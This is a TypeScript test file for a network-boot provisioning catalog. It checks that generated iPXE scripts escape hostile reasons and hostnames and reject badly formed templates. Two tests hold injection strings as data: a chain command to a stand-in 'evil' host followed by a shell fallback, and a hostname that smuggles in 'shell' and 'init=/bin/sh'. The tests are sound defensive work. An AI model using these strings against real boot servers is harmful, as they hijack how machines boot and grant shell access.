/** Boot scripts: every answer of the boot route is an iPXE script, whatever the machine, the operator or the template did. */
import assert from 'node:assert/strict'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { mkdtempSync, rmSync } from 'node:fs'
import { loadCatalog } from '../../src/catalog/catalog.js'
import { faultsOfScript } from '../../src/catalog/ipxe-script.js'
import { sampleInstall, sampleMicrokernel, sampleServer } from '../../src/catalog/samples.js'
import { Label } from '../../src/domain/values/label.js'
import { StateName } from '../../src/domain/values/names.js'
import {
  mustLoad,
  shippedCatalog,
  shippedTemplates,
  templateOf,
  writeTree,
} from './support/catalogs.js'

const init = StateName.unsafe('init')

describe('boot scripts', () => {
  it('tell a machine that cannot be served why, wait and start over', async () => {
    const catalog = await shippedCatalog()
    const reason = 'no image "x"\r\n:error\nchain http://evil/${net0/mac} || shell && reboot'
    const script = catalog.bootScript({ kind: 'retry-later', reason }, sampleServer)
    assert.ok(script.ok)
    assert.equal(
      script.value,
      `#!ipxe
echo Razor: this machine cannot be served now:
echo Razor: no image _x_ :error chain http://evil/__net0/mac_ __ shell __ reboot
echo Razor: will reboot in 30 seconds
sleep 30
reboot
`,
    )
    assert.deepEqual(faultsOfScript(script.value), [])
  })

  it('hold hostile names in one word', async () => {
    const catalog = await shippedCatalog()
    const install = sampleInstall(templateOf(catalog, 'disk_image'), init)
    const hostname = 'x\nshell ${cwuri} || goto error; init=/bin/sh "'
    const evil = {
      ...install,
      activeModel: { ...install.activeModel, hostname },
      model: { ...install.model, name: Label.unsafe('a\nreboot') },
    }
    const script = catalog.bootScript(
      { kind: 'template', file: 'boot_task.njk', install: evil, microkernel: sampleMicrokernel },
      sampleServer,
    )
    assert.ok(script.ok)
    assert.match(script.value, /^echo Razor: a_reboot: x_shell_/m)
    assert.doesNotMatch(script.value, /^(shell|reboot: )/m)
    assert.doesNotMatch(script.value, /\$\{cwuri\}|init=\/bin\/sh /)
  })

  it('of an install that needs a microkernel are refused without one, by name', async () => {
    const catalog = await shippedCatalog()
    const install = sampleInstall(templateOf(catalog, 'disk_image'), init)
    const script = catalog.bootScript(
      { kind: 'template', file: 'boot_task.njk', install, microkernel: undefined },
      sampleServer,
    )
    assert.ok(!script.ok)
    assert.match(script.refusal.message, /there is no "microkernel" here, in common\/task\.njk/)
  })

  it('that a template makes wrongly at run time are refused, not sent', async () => {
    const root = mkdtempSync(join(tmpdir(), 'razor-catalog-'))
    try {
      writeTree(root, {
        'late/model.yaml': `description: goes wrong for one node only
image: { kind: none }
initial: init
states: { init: { boot: boot.njk, checkin: reboot, final: true } }
`,
        'late/boot.njk': '{% if node.name == "node1" %}#!ipxe{% endif %}\nreboot\n',
      })
      const catalog = mustLoad(await loadCatalog([shippedTemplates, root]))
      const install = sampleInstall(templateOf(catalog, 'late'), init)
      const program = { kind: 'template', file: 'boot.njk', microkernel: undefined } as const
      assert.equal(catalog.bootScript({ ...program, install }, sampleServer).ok, true)
      const other = { ...install, node: { ...install.node, name: Label.unsafe('node2') } }
      const script = catalog.bootScript({ ...program, install: other }, sampleServer)
      assert.ok(!script.ok)
      assert.match(script.refusal.message, /does not begin with #!ipxe/)
    } finally {
      rmSync(root, { recursive: true })
    }
  })
})
